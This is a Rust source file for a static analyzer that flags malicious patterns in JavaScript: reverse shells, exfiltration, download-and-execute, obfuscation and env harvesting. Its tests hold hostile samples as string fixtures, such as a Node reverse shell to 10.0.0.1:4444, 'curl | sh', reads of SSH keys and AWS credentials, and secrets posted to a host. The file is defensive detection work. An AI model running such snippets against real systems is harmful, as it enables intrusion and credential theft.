//! JavaScript (Node) analyzer: parses with tree-sitter-javascript and turns
//! the tree into [`Fact`]s.
//!
//! It owns: parsing (failing closed on any syntax error, on nesting deeper
//! than the budget and on time-outs), binding resolution and constant
//! folding ([`walk`]), recursion into constant payloads handed to `eval`,
//! `Function`, `vm` or `child_process` (JavaScript here, shell through
//! [`crate::analyze::bash::extract`], Python through
//! [`crate::analyze::python::extract`]), and a few whole-program signals
//! that need every fact at once (`reverse-shell`, `download-exec`).
//! It must not decide anything (rules do) and never runs the code.

mod names;
mod shape;
mod value;
mod walk;

use std::collections::HashSet;
use std::ops::ControlFlow;

use tree_sitter::{Node, ParseOptions, Parser, Tree};

use super::{AnalyzeError, Budget, Fact, FactKind, Span};

/// Extracts facts from JavaScript source.
pub fn extract(code: &str, budget: &Budget) -> Result<Vec<Fact>, AnalyzeError> {
    if code.len() > budget.max_bytes {
        return Err(AnalyzeError::TooLarge {
            size: code.len(),
            limit: budget.max_bytes,
        });
    }
    let mut facts = analyze_nested(code, budget)?;
    super::fact::tag_language(&mut facts, crate::Language::Javascript);
    Ok(facts)
}

/// The whole analysis of one source text; also used for payloads found
/// inside it (with a nested budget).
pub(crate) fn analyze_nested(code: &str, budget: &Budget) -> Result<Vec<Fact>, AnalyzeError> {
    if code.len() > budget.max_bytes {
        return Err(AnalyzeError::TooLarge {
            size: code.len(),
            limit: budget.max_bytes,
        });
    }
    if budget.expired() {
        return Err(AnalyzeError::Timeout);
    }
    // tree-sitter copes with deep nesting, but the tree it builds would then
    // be deeper than anything we walk; refuse early and cheaply.
    if bracket_depth(code) > budget.max_depth {
        return Err(AnalyzeError::TooDeep {
            limit: budget.max_depth,
        });
    }
    let tree = parse(code, budget)?;
    let root = tree.root_node();
    if root.has_error() {
        return Err(first_error(root, code));
    }
    if tree_depth_exceeds(root, budget.max_depth) {
        return Err(AnalyzeError::TooDeep {
            limit: budget.max_depth,
        });
    }

    // Pass 1 records bindings anywhere in the program, so that pass 2 can
    // resolve names used above their declaration.
    let mut first = walk::Walker::new(code, budget, Default::default(), true);
    first.run(root);
    if let Some(e) = first.error {
        return Err(e);
    }
    let mut second = walk::Walker::new(code, budget, first.hoisted, false);
    second.run(root);
    if let Some(e) = second.error {
        return Err(e);
    }
    let mut facts = second.facts;
    facts.extend(shape::signals(root, code, budget));
    program_signals(&mut facts);
    Ok(dedupe(facts))
}

fn parse(code: &str, budget: &Budget) -> Result<Tree, AnalyzeError> {
    let mut parser = Parser::new();
    parser
        .set_language(&tree_sitter_javascript::LANGUAGE.into())
        .map_err(|e| AnalyzeError::Unparseable {
            line: 1,
            column: 1,
            message: format!("parser setup: {e}"),
        })?;
    let bytes = code.as_bytes();
    let mut progress = |_: &tree_sitter::ParseState| {
        if budget.expired() {
            ControlFlow::Break(())
        } else {
            ControlFlow::Continue(())
        }
    };
    let options = ParseOptions::new().progress_callback(&mut progress);
    let tree = parser.parse_with_options(
        &mut |i, _| {
            if i < bytes.len() {
                &bytes[i..]
            } else {
                &[] as &[u8]
            }
        },
        None,
        Some(options),
    );
    match tree {
        Some(t) => Ok(t),
        None if budget.expired() => Err(AnalyzeError::Timeout),
        None => Err(AnalyzeError::Unparseable {
            line: 1,
            column: 1,
            message: "parser gave up".into(),
        }),
    }
}

/// Deepest bracket nesting, skipping strings, template text and comments
/// well enough for a guard (it only has to over-approximate real nesting).
fn bracket_depth(code: &str) -> usize {
    let b = code.as_bytes();
    let mut depth: usize = 0;
    let mut max = 0;
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'(' | b'[' | b'{' => {
                depth += 1;
                max = max.max(depth);
            }
            b')' | b']' | b'}' => depth = depth.saturating_sub(1),
            q @ (b'"' | b'\'') => {
                i += 1;
                while i < b.len() && b[i] != q && b[i] != b'\n' {
                    if b[i] == b'\\' {
                        i += 1;
                    }
                    i += 1;
                }
            }
            b'/' if b.get(i + 1) == Some(&b'/') => {
                while i < b.len() && b[i] != b'\n' {
                    i += 1;
                }
            }
            b'/' if b.get(i + 1) == Some(&b'*') => {
                i += 2;
                while i + 1 < b.len() && !(b[i] == b'*' && b[i + 1] == b'/') {
                    i += 1;
                }
                i += 1;
            }
            _ => {}
        }
        i += 1;
    }
    max
}

fn tree_depth_exceeds(root: Node<'_>, limit: usize) -> bool {
    let mut cursor = root.walk();
    let mut depth = 0usize;
    loop {
        if cursor.goto_first_child() {
            depth += 1;
            if depth > limit {
                return true;
            }
            continue;
        }
        loop {
            if cursor.goto_next_sibling() {
                break;
            }
            if !cursor.goto_parent() {
                return false;
            }
            depth -= 1;
        }
    }
}

/// The first ERROR or MISSING node, in source order, as an error.
fn first_error(root: Node<'_>, code: &str) -> AnalyzeError {
    let mut cursor = root.walk();
    loop {
        let n = cursor.node();
        if n.is_error() || n.is_missing() {
            let p = n.start_position();
            let message = if n.is_missing() {
                format!("missing `{}`", n.kind())
            } else {
                let text: String = n
                    .utf8_text(code.as_bytes())
                    .unwrap_or("")
                    .chars()
                    .take(40)
                    .collect();
                format!("syntax error near `{}`", text.lines().next().unwrap_or(""))
            };
            return AnalyzeError::Unparseable {
                line: p.row as u32 + 1,
                column: p.column as u32 + 1,
                message,
            };
        }
        if n.has_error() && cursor.goto_first_child() {
            continue;
        }
        loop {
            if cursor.goto_next_sibling() {
                break;
            }
            if !cursor.goto_parent() {
                let p = root.start_position();
                return AnalyzeError::Unparseable {
                    line: p.row as u32 + 1,
                    column: p.column as u32 + 1,
                    message: "syntax error".into(),
                };
            }
        }
    }
}

fn call_root(name: &str) -> &str {
    name.split('.').next().unwrap_or(name)
}

/// Raw sockets and socket-like channels.
fn is_socket_call(name: &str) -> bool {
    matches!(
        name,
        "net.connect"
            | "net.createConnection"
            | "net.Socket"
            | "net.Stream"
            | "tls.connect"
            | "tls.TLSSocket"
            | "dgram.createSocket"
            | "WebSocket"
            | "ws"
            | "ws.WebSocket"
            | "net.createServer"
            | "tls.createServer"
            | "socket.io-client"
            | "socket.io-client.io"
            | "socket.io-client.connect"
    ) || name.starts_with("net.Socket().connect")
}

/// Anything that fetches from or talks to the network.
fn is_request_call(name: &str) -> bool {
    let root = call_root(name);
    is_socket_call(name)
        || matches!(
            root,
            "axios"
                | "got"
                | "node-fetch"
                | "request"
                | "undici"
                | "superagent"
                | "needle"
                | "phin"
        )
        || matches!(
            name,
            "fetch" | "XMLHttpRequest" | "http2.connect" | "EventSource"
        )
        || (matches!(root, "http" | "https")
            && (name.ends_with(".get") || name.ends_with(".request")))
}

fn is_process_call(name: &str) -> bool {
    (name.starts_with("child_process.") || name.starts_with("process.binding.spawn_sync."))
        && !name.contains("()")
        || matches!(call_root(name), "execa" | "shelljs" | "cross-spawn")
}

/// Signals that need the whole program: a socket plus a shell is a reverse
/// shell; a download plus code execution is download-and-execute.
fn program_signals(facts: &mut Vec<Fact>) {
    let has_signal = |facts: &[Fact], id: &str| {
        facts
            .iter()
            .any(|f| f.kind == FactKind::Signal && f.name == id)
    };
    let socket = facts
        .iter()
        .any(|f| f.kind == FactKind::Call && is_socket_call(&f.name));
    let request = facts.iter().any(|f| {
        (f.kind == FactKind::Call && is_request_call(&f.name))
            || (f.kind == FactKind::Command && names::is_download_tool(&f.name))
    });
    // Commands grouped by the span of the call that ran them.
    let commands_at = |span: Span| -> Vec<&Fact> {
        facts
            .iter()
            .filter(|f| f.kind == FactKind::Command && f.span == span)
            .collect()
    };
    let mut shell_spans: Vec<Span> = Vec::new();
    let mut exec_spans: Vec<Span> = Vec::new();
    for f in facts
        .iter()
        .filter(|f| f.kind == FactKind::Call && is_process_call(&f.name))
    {
        let cmds = commands_at(f.span);
        let unknown = f.args.is_empty() || cmds.is_empty();
        let spawns_shell = unknown
            || cmds
                .iter()
                .any(|c| names::is_shell(&c.name) || names::is_interpreter(&c.name))
            || f.args
                .first()
                .is_some_and(|a| names::is_shell(a) || names::is_interpreter(a));
        if spawns_shell {
            shell_spans.push(f.span);
        }
        let runs_something = unknown
            || cmds.iter().any(|c| {
                names::is_shell(&c.name)
                    || names::is_interpreter(&c.name)
                    || matches!(
                        c.name.as_str(),
                        "chmod" | "source" | "." | "eval" | "exec" | "nohup" | "setsid" | "xargs"
                    )
                    || c.name.starts_with('/')
                    || c.name.starts_with("./")
            })
            || f.args
                .first()
                .is_some_and(|a| a.starts_with('/') || a.starts_with("./") || a.starts_with('~'));
        if runs_something {
            exec_spans.push(f.span);
        }
    }
    if socket && !has_signal(facts, "reverse-shell") {
        if let Some(span) = shell_spans.first() {
            facts.push(
                Fact::new(FactKind::Signal, "reverse-shell", *span)
                    .with_args(vec!["socket + shell".into()]),
            );
        }
    }
    let secrets = facts.iter().any(|f| {
        f.kind == FactKind::Signal
            && (f.name == "env-harvest"
                || (f.name == "sensitive-path"
                    && f.args.get(1).is_some_and(|c| {
                        matches!(
                            c.as_str(),
                            "ssh" | "credentials" | "system-credentials" | "process-environment"
                        )
                    })))
    });
    if secrets && request && !has_signal(facts, "exfiltration") {
        let sender = facts.iter().find(|f| {
            (f.kind == FactKind::Call && is_request_call(&f.name))
                || (f.kind == FactKind::Command && names::is_download_tool(&f.name))
        });
        if let Some(span) = sender.map(|f| f.span) {
            facts.push(
                Fact::new(FactKind::Signal, "exfiltration", span)
                    .with_args(vec!["secrets + network".into()]),
            );
        }
    }
    // Not gated on an existing signal: the bash analyzer may already have
    // reported one inside a command, and this one points at the JS sink.
    if request {
        let dynamic = facts
            .iter()
            .find(|f| f.kind == FactKind::Signal && f.name == "dynamic-code")
            .map(|f| f.span);
        if let Some(span) = dynamic.or_else(|| exec_spans.first().copied()) {
            facts.push(
                Fact::new(FactKind::Signal, "download-exec", span)
                    .with_args(vec!["network + execution".into()]),
            );
        }
    }
}

fn dedupe(mut facts: Vec<Fact>) -> Vec<Fact> {
    let mut seen = HashSet::new();
    facts.retain(|f| {
        seen.insert((
            f.kind,
            f.name.clone(),
            f.args.clone(),
            f.span,
            f.via.clone(),
        ))
    });
    facts.sort_by(|a, b| {
        a.span
            .cmp(&b.span)
            .then_with(|| a.kind.cmp(&b.kind))
            .then_with(|| a.name.cmp(&b.name))
    });
    facts
}

#[cfg(test)]
mod tests {
    use super::*;

    fn facts(code: &str) -> Vec<Fact> {
        match extract(code, &Budget::start()) {
            Ok(f) => f,
            Err(e) => panic!("extract failed on {code:?}: {e}"),
        }
    }

    fn has(code: &str, kind: FactKind, name: &str) -> bool {
        facts(code).iter().any(|f| f.kind == kind && f.name == name)
    }

    fn signals(code: &str) -> Vec<String> {
        facts(code)
            .into_iter()
            .filter(|f| f.kind == FactKind::Signal)
            .map(|f| f.name)
            .collect()
    }

    #[track_caller]
    fn assert_call(code: &str, name: &str) {
        let f = facts(code);
        assert!(
            f.iter().any(|f| f.kind == FactKind::Call && f.name == name),
            "no call {name} in {code:?}: {f:#?}"
        );
    }

    #[track_caller]
    fn assert_signal(code: &str, id: &str) {
        let s = signals(code);
        assert!(
            s.iter().any(|x| x == id),
            "no signal {id} in {code:?}: {s:?}"
        );
    }

    #[track_caller]
    fn assert_no_signal(code: &str, id: &str) {
        let s = signals(code);
        assert!(
            !s.iter().any(|x| x == id),
            "unexpected signal {id} in {code:?}: {s:?}"
        );
    }

    #[test]
    fn imports() {
        assert!(has(
            "const cp = require('child_process')",
            FactKind::Import,
            "child_process"
        ));
        assert!(has(
            "require('node:child_process')",
            FactKind::Import,
            "child_process"
        ));
        assert!(has("import x from 'net'", FactKind::Import, "net"));
        assert!(has("import('fs')", FactKind::Import, "fs"));
        assert!(has("module.require('vm')", FactKind::Import, "vm"));
        assert!(has(
            "process.mainModule.require('vm')",
            FactKind::Import,
            "vm"
        ));
        assert!(has("import { createRequire } from 'module'; const r = createRequire(import.meta.url); r('net')", FactKind::Import, "net"));
        assert_signal("const m = require(name)", "computed-name");
    }

    #[test]
    fn bindings_resolve() {
        assert_call(
            "const cp = require('child_process'); cp.exec('ls')",
            "child_process.exec",
        );
        assert_call(
            "const { exec: run } = require('child_process'); run('ls')",
            "child_process.exec",
        );
        assert_call(
            "import { spawn } from 'child_process'; spawn('ls')",
            "child_process.spawn",
        );
        assert_call(
            "import * as net from 'net'; net.connect(1, 'h')",
            "net.connect",
        );
        assert_call(
            "require('child_process').execSync('id')",
            "child_process.execSync",
        );
        assert_call(
            "const cp = require('child_process'); const e = cp.exec; e('id')",
            "child_process.exec",
        );
        assert_call(
            "function f(){ cp.exec('id') } const cp = require('child_process');",
            "child_process.exec",
        );
        assert_call(
            "const cp = await import('child_process'); cp.spawn('ls')",
            "child_process.spawn",
        );
        assert_call(
            "import('child_process').then(cp => cp.execSync('id'))",
            "child_process.execSync",
        );
        assert_call(
            "const o = { run: require('child_process').exec }; o.run('x')",
            "child_process.exec",
        );
        assert_call("eval.call(null, 'x')", "eval");
        assert_call("(0, eval)('x')", "eval");
        assert_call(
            "const p = require('util').promisify(require('child_process').exec); p('id')",
            "child_process.exec",
        );
    }

    #[test]
    fn folding_reveals_names() {
        assert_call("global['ev'+'al']('1')", "eval");
        assert_signal("global['ev'+'al']('1')", "string-obfuscation");
        assert_call(
            "const cp = require('child_process'); cp['ex'+'ec']('id')",
            "child_process.exec",
        );
        assert_call("this[['ev','al'].join('')]('1')", "eval");
        assert_call("globalThis[`${'ev'}al`]('1')", "eval");
        assert_call("global[String.fromCharCode(101,118,97,108)]('1')", "eval");
        assert_call("global['lave'.split('').reverse().join('')]('1')", "eval");
        assert_call(
            "global[Buffer.from('ZXZhbA==', 'base64').toString()]('1')",
            "eval",
        );
        assert_call("global[atob('ZXZhbA==')]('1')", "eval");
        assert_call("global[unescape('%65%76%61%6c')]('1')", "eval");
        assert_call("global['\\x65val']('1')", "eval");
        assert_call(
            "const a = 'ex'; const b = a + 'ec'; require('child_process')[b]('id')",
            "child_process.exec",
        );
        assert_call(
            "require('child_' + 'process').exec('id')",
            "child_process.exec",
        );
        assert_signal(
            "require('child_' + 'process').exec('id')",
            "string-obfuscation",
        );
        assert_call("global[(14).toString(36) + 'val']('1')", "eval");
        assert_call(
            "const d = s => Buffer.from(s, 'base64').toString(); global[d('ZXZhbA==')]('x')",
            "eval",
        );
        assert_call(
            "global[[101,118,97,108].map(c => String.fromCharCode(c)).join('')]('1')",
            "eval",
        );
        assert_call("Reflect.get(global, 'ev' + 'al')('1')", "eval");
        assert_call("global['e-v-a-l'.replace(/-/g, '')]('1')", "eval");
    }

    #[test]
    fn dynamic_code_payloads() {
        let code = "eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk=', 'base64').toString())";
        let f = facts(code);
        assert!(f
            .iter()
            .any(|f| f.kind == FactKind::Signal && f.name == "decode-exec"));
        assert!(f
            .iter()
            .any(|f| f.kind == FactKind::Signal && f.name == "decoded-payload"));
        let inner = f
            .iter()
            .find(|f| f.kind == FactKind::Call && f.name == "child_process.exec");
        let Some(inner) = inner else {
            panic!("payload not analysed: {f:#?}")
        };
        assert_eq!(
            inner.via,
            vec!["eval".to_string(), "Buffer.from".to_string()]
        );
        assert_eq!(inner.span.start_line, 1);
        assert_signal("new Function('return 1')()", "dynamic-code");
        assert_signal("Function('a', 'return a')(1)", "dynamic-code");
        assert_signal("require('vm').runInThisContext('1')", "dynamic-code");
        assert_signal(
            "const vm = require('vm'); new vm.Script('x')",
            "dynamic-code",
        );
        assert_signal("setTimeout('doit()', 10)", "dynamic-code");
        assert_no_signal("setTimeout(() => doit(), 10)", "dynamic-code");
        assert_signal(
            "[].constructor.constructor('return process')()",
            "reflection",
        );
        assert_signal(
            "[].constructor.constructor('return process')()",
            "dynamic-code",
        );
        assert_signal("fetch(u).then(r => r.text()).then(eval)", "dynamic-code");
        assert_signal("fetch(u).then(r => r.text()).then(eval)", "download-exec");
        assert_signal("eval(atob(x))", "decode-exec");
        assert_call(
            "Function('return process')().mainModule.require('child_process').execSync('id')",
            "child_process.execSync",
        );
        assert_call("Function('return this')().eval('1')", "eval");
        assert_signal(
            "[]['filter']['constructor']('return process')()",
            "dynamic-code",
        );
        assert_signal(
            "this.constructor.constructor('return process')()",
            "dynamic-code",
        );
        assert_signal(
            "const { [`ex` + `ec`]: run } = require('child_process'); run('id')",
            "string-obfuscation",
        );
        assert_call(
            "eval(String.fromCharCode.apply(null, [49, 43, 49]))",
            "eval",
        );
        assert_call(
            "global.process.mainModule.constructor._load('child_process').exec('id')",
            "child_process.exec",
        );
    }

    #[test]
    fn shell_commands() {
        let f = facts("require('child_process').exec('curl http://x | sh')");
        assert!(
            f.iter()
                .any(|f| f.kind == FactKind::Command && f.name == "curl"),
            "{f:#?}"
        );
        let f = facts("const { spawn } = require('child_process'); spawn('curl', ['-o', '/tmp/x', 'http://e'])");
        let c = f
            .iter()
            .find(|f| f.kind == FactKind::Command && f.name == "curl");
        assert_eq!(
            c.map(|c| c.args.clone()),
            Some(vec!["-o".to_string(), "/tmp/x".into(), "http://e".into()])
        );
        let f = facts("require('child_process').spawn('/bin/sh', ['-c', 'wget http://x'])");
        assert!(
            f.iter()
                .any(|f| f.kind == FactKind::Command && f.name == "wget"),
            "{f:#?}"
        );
        assert!(
            f.iter()
                .any(|f| f.kind == FactKind::Command && f.name == "sh"),
            "{f:#?}"
        );
    }

    #[test]
    fn call_args_and_paths() {
        let f = facts("const fs = require('fs'); fs.readFileSync('/etc/shadow')");
        assert!(f.iter().any(|f| f.kind == FactKind::Call
            && f.name == "fs.readFileSync"
            && f.args == ["/etc/shadow"]));
        assert_signal(
            "const fs = require('fs'); fs.readFileSync('/etc/shadow')",
            "sensitive-path",
        );
        assert_signal("const fs = require('fs'); const os = require('os'); fs.readFileSync(os.homedir() + '/.ssh/id_rsa')", "sensitive-path");
        assert_signal(
            "const fs = require('fs'); fs.readFileSync(`${process.env.HOME}/.aws/credentials`)",
            "sensitive-path",
        );
        assert_signal("const fs = require('fs'), path = require('path'), os = require('os'); fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'))", "sensitive-path");
        assert_signal(
            "require('fs').writeFileSync('/home/x/.bashrc', 'x')",
            "sensitive-path",
        );
        assert_call("require('net').connect(4444, '10.0.0.1')", "net.connect");
        assert_signal(
            "require('http').get('http://169.254.169.254/latest/meta-data/')",
            "cloud-metadata",
        );
        assert_signal("require('fs').chmodSync('/tmp/x', 0o4755)", "setuid");
        assert_no_signal("require('fs').chmodSync('/tmp/x', 0o755)", "setuid");
        assert_signal(
            "require('fs').rmSync('/', { recursive: true, force: true })",
            "recursive-delete-root",
        );
        assert_no_signal(
            "require('fs').rmSync('/tmp/build', { recursive: true })",
            "recursive-delete-root",
        );
        assert_signal("require('http').request({ socketPath: '/var/run/docker.sock', path: '/containers/json' })", "sensitive-path");
        assert_no_signal(
            "require('fs').readFileSync('/tmp/data.json')",
            "sensitive-path",
        );
    }

    #[test]
    fn techniques() {
        let rs = "const net = require('net'), cp = require('child_process'); const sh = cp.spawn('/bin/sh', []); const c = new net.Socket(); c.connect(4444, '10.0.0.1', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });";
        assert_signal(rs, "reverse-shell");
        assert_signal("JSON.stringify(process.env)", "env-harvest");
        assert_signal("Object.keys(process.env)", "env-harvest");
        assert_signal("const e = {...process.env}", "env-harvest");
        assert_signal("for (const k in process.env) {}", "env-harvest");
        assert_no_signal(
            "const h = process.env.HOME; const m = process.env.NODE_ENV",
            "env-harvest",
        );
        assert_no_signal(
            "require('child_process').spawn('ls', [], { env: { ...process.env, A: '1' } })",
            "env-harvest",
        );
        assert_signal(
            "const cp = require('child_process'); while (true) { cp.fork(__filename) }",
            "fork-bomb",
        );
        assert_signal("require('child_process').fork(__filename)", "fork-bomb");
        assert_no_signal(
            "const cluster = require('cluster'); for (let i = 0; i < 4; i++) cluster.fork()",
            "fork-bomb",
        );
        assert_signal("while (true) {}", "infinite-loop");
        assert_no_signal("while (true) { if (x) break; }", "infinite-loop");
        assert_no_signal(
            "const cp = require('child_process'); setInterval(() => cp.exec('date'), 60000)",
            "fork-bomb",
        );
        assert_signal(
            "const cp = require('child_process'); setInterval(() => cp.exec('date'))",
            "fork-bomb",
        );
        assert_no_signal("Object.assign(process.env, { A: '1' })", "env-harvest");
        assert_no_signal(
            "function* g() { let i = 0; while (true) yield i++; }",
            "infinite-loop",
        );
        assert_signal(
            "const a = []; while (true) { a.push(new Array(1e6)) }",
            "resource-exhaustion",
        );
        assert_signal("Buffer.alloc(8 * 1024 ** 3)", "resource-exhaustion");
        assert_signal("'x'.repeat(2e9)", "resource-exhaustion");
        assert_signal("process.kill(-1, 'SIGKILL')", "kill-all");
        assert_signal(
            "require('fs').appendFileSync(require('os').homedir() + '/.bashrc', 'x')",
            "sensitive-write",
        );
        assert_no_signal(
            "require('fs').writeFileSync('/tmp/out.txt', 'x')",
            "sensitive-write",
        );
        assert_signal(
            "const s = JSON.stringify(process.env); require('https').request({ host: 'x' }).end(s)",
            "exfiltration",
        );
        assert_no_signal("fetch('https://api.example.com', { headers: { Authorization: process.env.API_TOKEN } })", "exfiltration");
        assert_signal("process.binding('spawn_sync')", "reflection");
        assert_signal("({}).__proto__.polluted = 1", "reflection");
    }

    #[test]
    fn stays_clean() {
        let clean = [
            "JSON.parse('{\"a\":1}')",
            "model.eval()",
            "const re = /a/; re.exec('abc')",
            "db.execute('select 1')",
            "console.log('rm -rf /')",
            "function executeQuery(q) { return q }",
            "// eval(atob('x')) require('child_process')",
            "const fs = require('fs'); fs.readFileSync('/tmp/input.txt', 'utf8')",
            "const path = require('path'); path.join(__dirname, 'x')",
            "async function f() { const r = await Promise.all([1, 2]); return r }",
            "class A { constructor() { this.x = 1 } run() { return this.x } }",
            "class M { eval() { return 1 } exec() { return this.eval() } }",
            "const env = process.env.NODE_ENV || 'dev'",
            "const s = 'eval is evil'; console.log(s.split(' ').reverse().join(' '))",
        ];
        for code in clean {
            let f = facts(code);
            let bad: Vec<&Fact> = f
                .iter()
                .filter(|f| {
                    f.kind == FactKind::Signal
                        || (f.kind == FactKind::Call
                            && (f.name == "eval"
                                || f.name.starts_with("child_process")
                                || f.name == "Function"))
                        || (f.kind == FactKind::Import && f.name == "child_process")
                })
                .collect();
            assert!(bad.is_empty(), "{code:?} raised {bad:#?}");
        }
    }

    /// Debug aid: `JS_FACTS=path cargo test --lib dump_facts -- --nocapture`.
    #[test]
    fn dump_facts() {
        let Ok(path) = std::env::var("JS_FACTS") else {
            return;
        };
        for p in path.split(':') {
            let code = std::fs::read_to_string(p).unwrap_or_default();
            println!("== {p}");
            match extract(&code, &Budget::start()) {
                Ok(fs) => {
                    for f in fs.iter().filter(|f| f.kind != FactKind::String) {
                        println!(
                            "{}:{} {:?} {} {:?} via={:?}",
                            f.span.start_line, f.span.start_col, f.kind, f.name, f.args, f.via
                        );
                    }
                }
                Err(e) => println!("error: {e}"),
            }
        }
    }

    #[test]
    fn fails_closed() {
        let b = Budget::start();
        match extract("const = ;", &b) {
            Err(AnalyzeError::Unparseable { line, .. }) => assert_eq!(line, 1),
            other => panic!("expected unparseable, got {other:?}"),
        }
        let deep = "(".repeat(100_000) + &")".repeat(100_000);
        assert!(matches!(
            extract(&deep, &b),
            Err(AnalyzeError::TooDeep { .. })
        ));
        let chain = "a".to_string() + &"+a".repeat(50_000);
        assert!(matches!(
            extract(&chain, &b),
            Err(AnalyzeError::TooDeep { .. })
        ));
        let nots = "!".repeat(50_000) + "x";
        assert!(matches!(
            extract(&nots, &b),
            Err(AnalyzeError::TooDeep { .. })
        ));
    }

    #[test]
    fn nesting_below_limit_fits_default_stack() {
        // Close to the depth limit, the walk must still fit a 2 MiB test thread.
        let code = "f(".repeat(60) + &")".repeat(60);
        let r = std::thread::Builder::new()
            .stack_size(2 << 20)
            .spawn(move || extract(&code, &Budget::start()).is_ok());
        assert!(r.map(|h| h.join().unwrap_or(false)).unwrap_or(false));
    }

    #[test]
    fn obfuscator_shapes() {
        assert_signal(
            "(function (g) { const a = g(); while (!![]) { a['push'](a['shift']()); break; } })(x);",
            "obfuscator-shape",
        );
        assert_signal(
            "var _0xa1b = 1, _0xc2d = 2, _0xe3f = 3, _0x4a5 = 4;",
            "obfuscator-shape",
        );
        assert_signal("for (var j = +!!false; j < 2; j++) {}", "obfuscator-shape");
        assert_signal("const s = [] + {};", "obfuscator-shape");
        assert_signal(
            "function t() { var a = ['a', 'b', 'c', 'd', 'e']; t = function () { return a; }; return t(); }",
            "obfuscator-shape",
        );
        assert_no_signal(
            "q.push(q.shift()); const on = !!flag; const n = +s;",
            "obfuscator-shape",
        );
        assert_no_signal("var _0xa1b = 1;", "obfuscator-shape");
    }

    #[test]
    fn xor_decode_loops() {
        let cipher = "let o = ''; for (let i = 0; i < d.length; i++) { o += String.fromCharCode(d[i] ^ k.charCodeAt(i % k.length)); }";
        assert_signal(cipher, "decode-loop");
        assert_no_signal(cipher, "decode-exec");
        assert_signal(&format!("{cipher} eval(o);"), "decode-exec");
        assert_no_signal(
            "let h = 5381; for (let i = 0; i < s.length; i++) { h ^= s.charCodeAt(i); }",
            "decode-loop",
        );
    }

    #[test]
    fn secret_env_variables_reaching_requests() {
        assert_signal(
            "fetch('https://x.example', { method: 'POST', body: process.env.AWS_SECRET_ACCESS_KEY })",
            "exfiltration",
        );
        assert_no_signal(
            "fetch('https://x.example', { body: process.env.NODE_ENV })",
            "exfiltration",
        );
    }
}
